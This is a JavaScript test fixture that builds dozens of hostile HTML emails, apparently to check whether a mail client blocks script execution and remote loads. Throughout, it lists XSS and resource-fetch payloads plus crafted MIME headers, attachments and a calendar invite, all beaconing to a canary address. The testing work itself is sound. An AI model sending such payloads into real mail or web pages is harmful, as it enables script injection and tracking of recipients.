// Messages that try to run code, to fetch something, or to be more than text. C is the canary's
// address and N the number of the message: anything that succeeds calls C/N.

const html = [
  `<script>new Image().src="C/N"</script>`, `<script src="C/N"></script>`, `<SCRIPT/x src=C/N></SCRIPT>`, `<scr<script>ipt>new Image().src="C/N"</script>`,
  `<script type=module>import "C/N"</script>`, `<img src=x onerror="new Image().src='C/N'">`, `<img/src=x/onerror=this.src='C/N'>`, `<body onload="new Image().src='C/N'">`,
  `<svg onload="new Image().src='C/N'">`, `<svg><script>new Image().src="C/N"</script></svg>`, `<svg><image href="C/N"/></svg>`, `<svg><use href="C/N#x"/></svg>`, `<svg><style>@import "C/N"</style></svg>`,
  `<svg><foreignObject><img src="C/N"></foreignObject></svg>`, `<svg><animate attributeName=href values="C/N" /><set attributeName=onload to="x"/></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=C/N onerror=1&gt;"></mglyph></table></mtext></math>`, `<math href="javascript:new Image().src='C/N'">x</math><img src="C/N">`,
  `<template><img src="C/N"></template><img src="C/N">`, `<noscript><p title="</noscript><img src=C/N>"></noscript>`, `<textarea><p title="</textarea><img src=C/N>"></textarea>`,
  `<xmp><p title="</xmp><img src=C/N>"></xmp>`, `<title><p title="</title><img src=C/N>"></title>`, `<!--><img src=C/N>-->`, `<!-- --!><img src=C/N><!-- -->`, `<![CDATA[><img src=C/N>]]>`, `<?x ?><img src=C/N>`,
  `<img src="C/N">`, `<img srcset="C/N 1x">`, `<picture><source srcset="C/N"><img></picture>`, `<input type=image src="C/N">`, `<video poster="C/N"></video>`, `<video autoplay muted src="C/N"></video>`, `<audio autoplay src="C/N"></audio>`,
  `<object data="C/N"></object>`, `<embed src="C/N">`, `<iframe src="C/N"></iframe>`, `<iframe srcdoc="<img src='C/N'>"></iframe>`, `<iframe src="javascript:new Image().src='C/N'"></iframe>`, `<frameset><frame src="C/N"></frameset>`,
  `<link rel=stylesheet href="C/N">`, `<link rel=prefetch href="C/N">`, `<link rel=preconnect href="C">`, `<link rel=dns-prefetch href="C"><link rel=preload as=image href="C/N">`, `<link rel=modulepreload href="C/N">`, `<link rel=icon href="C/N">`,
  `<meta http-equiv=refresh content="0;url=C/N">`, `<META HTTP-EQUIV="refresh" CONTENT="0; URL='C/N'">`, `<base href="C/"><img src="N">`, `<style>@import "C/N";</style>`, `<style>@im\\port url(C/N);body{background:u\\72l(C/N)}</style>`,
  `<style>body{background:url("C/N")}</style>`, `<style>@font-face{font-family:x;src:url(C/N)}body{font-family:x}</style>`, `<style>p{background:image-set("C/N" 1x)}</style><p>x</p>`, `<div style="background:url(C/N)">x</div>`, `<div style="background:/*x*/url(&#x22;C/N&#x22;)">x</div>`,
  `<div style="background-image:u&#x5c;rl(C/N);list-style:url(C/N)">x</div>`, `<table background="C/N"><tr><td background="C/N">x</td></tr></table>`, `<form action="C/N" method=post><button autofocus onfocus="this.form.submit()">Go</button></form>`,
  `<a href="javascript:new Image().src='C/N'" autofocus onfocus="new Image().src='C/N'" tabindex=0>x</a>`, `<details open ontoggle="new Image().src='C/N'">x</details>`, `<marquee onstart="new Image().src='C/N'">x</marquee>`,
  `<select autofocus onfocus="new Image().src='C/N'"></select>`, `<div style="animation:x 1ms" onanimationstart="new Image().src='C/N'">x</div><style>@keyframes x{}</style>`, `<p>\u2028\u2029<img src="C/N" alt="\u2028"></p>`, `<a ping="C/N" href="https://example.com/">x</a><img src="C/N">`,
  `<plaintext><img src=C/N>`, `<img src="C/N`, `<p style="x:url(C/N)`, `</p/onload=x><img src="C/N">`, `<\u0000img src=C/N><im\u0000g src="C/N"><img src="C/N">`,
];

/** mails returns all of them: [html, complete text of the message] */
export function mails(canary, to) {
  const fill = (s, n) => s.replaceAll("C", "\u0001").replaceAll("\u0001DATA", "CDATA").replaceAll("\u0001ONTENT", "CONTENT").replaceAll("S\u0001RIPT", "SCRIPT").replaceAll("\u0001", canary).replace(/\bN\b/g, String(n));
  const out = html.map((h, i) => {
    const text = fill(h, i);
    const b64 = Buffer.from(`<html><body><p>hello ${i}</p>${text}</body></html>`).toString("base64").replace(/.{76}/g, "$&\n");
    return { n: i, html: text, text: `From: x${i}@evil.example\nTo: ${to}\nSubject: Hostile ${i}\nMIME-Version: 1.0\nContent-Type: text/html; charset=utf-8\nContent-Transfer-Encoding: base64\n\n${b64}\n` };
  });
  const tag = (n) => `<img src=x onerror="new Image().src='${canary}/${n}'"><script>new Image().src='${canary}/${n}'</script>`;
  const word = (s) => "=?utf-8?B?" + Buffer.from(s).toString("base64") + "?=";
  const ics = (n, method) => `BEGIN:VCALENDAR\nVERSION:2.0\nPRODID:x\nMETHOD:${method}\nBEGIN:VEVENT\nUID:h${n}@evil.example\nDTSTAMP:20261101T090000Z\nDTSTART:20261224T140000Z\nDTEND:20261224T150000Z\nSUMMARY:${tag(n)}\nLOCATION:javascript:new Image().src='${canary}/${n}'\nDESCRIPTION:${tag(n)}\nURL:${canary}/${n}\nATTACH:${canary}/${n}\nORGANIZER;CN="${tag(n).replaceAll('"', "'")}":mailto:x${n}@evil.example\nATTENDEE;PARTSTAT=NEEDS-ACTION:mailto:${to}\nEND:VEVENT\nEND:VCALENDAR`;
  let n = out.length;
  const more = (head, body) => out.push({ n, html: "", text: `From: x${n}@evil.example\nTo: ${to}\n${head}\n${body}\n` }) && n++;
  more(`Subject: ${word(tag(n))}`, "\n" + tag(n));
  out.push({ n, html: "", text: `From: ${word(tag(n))} <x@evil.example>\nTo: ${word(tag(n))} <${to}>\nSubject: Name\nX-Odd: ${tag(n)}\n\njavascript:alert(1) ${canary}/${n}x data:text/html,<script>alert(1)</script>\n` }), n++;
  more(`Subject: File\nMIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=b`, `\n--b\nContent-Type: text/plain\n\nx\n--b\nContent-Type: text/html\nContent-Disposition: attachment; filename="${tag(n).replaceAll('"', "'")}.html"\n\n${tag(n)}\n--b--`);
  more(`Subject: Invitation\nMIME-Version: 1.0\nContent-Type: text/calendar; method=REQUEST; charset=utf-8`, "\n" + ics(n, "REQUEST"));
  more(`Subject: ${word("\u2028\u2029\u202e\u0007 odd")}`, "\n\u2028\u2029 odd \u202e");
  more(`Subject: Pictures\nMIME-Version: 1.0\nContent-Type: multipart/related; boundary=b`, `\n--b\nContent-Type: text/html\n\n<img src="cid:a"><img src="cid:${canary}/${n}"><img src="CID:s">\n--b\nContent-Type: image/svg+xml\nContent-ID: <s>\n\n<svg xmlns="http://www.w3.org/2000/svg" onload="new Image().src='${canary}/${n}'"><image href="${canary}/${n}"/></svg>\n--b\nContent-Type: image/png\nContent-ID: <a>\nContent-Transfer-Encoding: base64\n\niVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==\n--b--`);
  return out;
}
